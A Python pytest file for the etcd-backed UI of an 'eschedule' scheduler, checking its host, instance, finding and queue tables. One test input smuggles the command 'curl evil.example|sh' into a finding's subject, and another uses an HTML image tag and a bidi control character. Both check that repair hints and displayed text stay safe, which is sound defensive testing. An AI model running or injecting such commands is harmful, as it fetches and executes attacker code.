"""The rows of the page of `eschedule ui`, from keys as they stand in etcd."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

import pytest

from ecomp.model import keys
from ecomp.model.audit import REPAIR_WRONG_DOMAIN, HostReport, encode_report
from ecomp.model.finding import Finding
from ecomp.model.flavor import Flavor
from ecomp.model.json_object import dump
from ecomp.model.queue import QueueEntry
from ecomp.model.states import BUILDING
from ecomp.model.stored import encode
from ecomp.model.trouble import encode_trouble
from ecomp.store.client import Entry
from ecomp.ui.picture import PREFIXES, Picture
from tests.kit.written import make_host, make_instance, make_uuid

COMPUTE, INSTANCE, OTHER = make_uuid('compute', 0), make_uuid('instance', 0), make_uuid('instance', 1)
NOW = '2026-01-01T09:00:00.000Z'


@dataclass
class Scene:
    """A picture, and the entries of etcd that it was made from."""

    picture: Picture = field(default_factory=Picture)
    entries: dict[str, Entry] = field(default_factory=dict)
    revision: int = 0

    def put(self, values: Mapping[str, str | None]) -> None:
        self.revision += 1
        for key, value in values.items():
            if value is None:
                del self.entries[key]
            else:
                self.entries[key] = Entry(key, value.encode(), self.revision, lease=1, create_revision=self.revision)
        states = {
            prefix: {key: each for key, each in self.entries.items() if key.startswith(prefix)} for prefix in PREFIXES
        }
        self.picture.update(states, NOW)

    def list_events(self) -> list[str]:
        return [f'{subject}: {text}' for _, subject, text, _ in self.picture.tables['events'].values()]


@pytest.fixture
def scene() -> Scene:
    made = Scene()
    made.put({**make_host(COMPUTE, 'hv1'), **make_instance(0, COMPUTE)})
    return made


def test_host_has_what_its_requests_hold_and_its_instance(scene: Scene) -> None:
    tables = scene.picture.tables
    rooms = {'VCPU': (2, 32), 'MEMORY_MB': (8192, 65536), 'DISK_GB': (20, 500)}
    assert tables['hosts'] == {COMPUTE: ('hv1', 'up', 'up', rooms)}
    assert tables['instances'] == {INSTANCE: (COMPUTE, 'web-0', 'active', [2, 8192, 20], '', '', 'shop', '', 1)}
    assert (tables['findings'], tables['events']) == ({}, {})


def test_silent_host_keeps_its_capacity_and_its_instances_are_unknown(scene: Scene) -> None:
    scene.put({keys.compute(COMPUTE): None, keys.facts(COMPUTE): None})
    tables = scene.picture.tables
    assert tables['hosts'][COMPUTE][1:3] == ('silent', 'silent')
    assert tables['hosts'][COMPUTE][3]['VCPU'] == (2, 32)
    assert tables['instances'][INSTANCE][2:8:5] == ('unknown', 'hv1 silent, was active')
    assert scene.list_events() == [': compute hv1 stopped, or lost its lease']
    scene.put(make_host(COMPUTE, 'hv1'))
    assert scene.picture.tables['instances'][INSTANCE][2:8:5] == ('active', '')


def test_forgotten_host_is_removed(scene: Scene) -> None:
    scene.put(dict.fromkeys(scene.entries))
    assert [scene.picture.tables[name] for name in ('hosts', 'instances')] == [{}, {}]


def test_trouble_and_findings_are_shown_with_names(scene: Scene) -> None:
    finding = Finding('domain-missing', INSTANCE, f'{COMPUTE} has no domain of it')
    trouble = encode_trouble(['no address is free'])
    scene.put({keys.troubles(COMPUTE): trouble, keys.findings(COMPUTE): encode_report(HostReport((finding,)))})
    tables = scene.picture.tables
    assert tables['hosts'][COMPUTE][1:3] == ('troubled', 'up, cannot build: no address is free')
    (row,) = tables['findings'].values()
    assert row[:5] == (COMPUTE, 'domain-missing', 'error', 'web-0', 'hv1 has no domain of it')
    scene.put({keys.findings(COMPUTE): 'no JSON'})
    (row,) = scene.picture.tables['findings'].values()
    assert row[1] == 'compute-mute'


@pytest.mark.parametrize(
    ('code', 'subject', 'cure'),
    [
        ('disk-missing', INSTANCE, f'eschedule destroy {INSTANCE}'),
        ('disk-missing', 'x; curl evil.example|sh #', 'eschedule destroy <instance>'),
        ('domain-doubled', INSTANCE, REPAIR_WRONG_DOMAIN.replace('<instance>', INSTANCE)),
    ],
)
def test_cure_of_a_finding_has_a_uuid_and_no_text_of_a_compute(
    scene: Scene, code: str, subject: str, cure: str
) -> None:
    scene.put({keys.findings(COMPUTE): encode_report(HostReport((Finding(code, subject, 'it is so'),)))})
    assert [row[5] for row in scene.picture.tables['findings'].values()] == [cure]


def test_queued_request_waits_and_is_taken(scene: Scene) -> None:
    flavor = Flavor('small', {'VCPU': 1, 'MEMORY_MB': 1024, 'DISK_GB': 10})
    entry = QueueEntry(
        OTHER,
        image='http://images.example/i.img',
        name='web-1',
        user_id='ann',
        project_id='shop',
        stages={'requested': NOW},
        flavor=flavor,
    )
    scene.put({entry.key: encode(entry)})
    row = scene.picture.tables['instances'][OTHER]
    assert row[:3] == ('', 'web-1', 'queued')
    assert row[7] == f'since {NOW}: waits for a compute to take the request'
    scene.put({entry.key: None, **make_instance(1, COMPUTE, BUILDING)})
    assert scene.picture.tables['instances'][OTHER][:3] == (COMPUTE, 'web-1', 'building')
    assert scene.list_events()[0] == 'web-1: queue small: waits'
    assert 'web-1: queue small: taken by hv1' in scene.list_events()


@pytest.mark.parametrize('value', ['{}', 'not JSON', '<b>', '[' * 1000])
def test_malformed_values_are_named_and_end_nothing(scene: Scene, value: str) -> None:
    scene.put(dict.fromkeys(scene.entries, value))
    (row,) = scene.picture.tables['instances'].values()
    assert 'its record is malformed: ' in row[7]


def test_texts_of_others_are_one_short_printable_line(scene: Scene) -> None:
    scene.put(make_instance(0, COMPUTE, project_id='<img src=x>\u202e\n' + 'x' * 1000))
    project, _, revision = scene.picture.tables['instances'][INSTANCE][6:]
    assert project.startswith('<img src=x>\\u202e\\nxxx')
    assert (len(project) < 320, revision) == (True, 2)


def test_room_is_that_of_requests_and_unknown_if_one_was_dropped(scene: Scene) -> None:
    other = make_instance(1, COMPUTE)
    scene.put({**other, f'{keys.request(COMPUTE, INSTANCE)}/taker': 'x', f'/hosts/{COMPUTE}/x/{INSTANCE}': 'x'})
    assert scene.picture.tables['hosts'][COMPUTE][3]['VCPU'] == (3, 32)
    scene.put(dict.fromkeys(other))
    assert scene.picture._keys.keys() == {INSTANCE}
    scene.entries[keys.request(COMPUTE, INSTANCE)] = Entry(keys.request(COMPUTE, INSTANCE), b'', 2, dropped_bytes=9000)
    scene.put({})
    assert scene.picture.tables['hosts'][COMPUTE][3]['VCPU'] == (None, 32)


def test_request_to_destroy_is_shown_before_its_compute_has_seen_it(scene: Scene) -> None:
    request = {'version': 1, 'instance': INSTANCE, 'allocations': {}, 'image': None, 'user_id': '', 'project_id': ''}
    scene.put({keys.request(COMPUTE, INSTANCE): dump({**request, 'consumer_generation': None})})
    assert scene.picture.tables['instances'][INSTANCE][2] == 'destroying'
    scene.put({keys.compute(COMPUTE): None})
    assert scene.picture.tables['instances'][INSTANCE][2:8:5] == ('destroying', 'waiting for hv1')
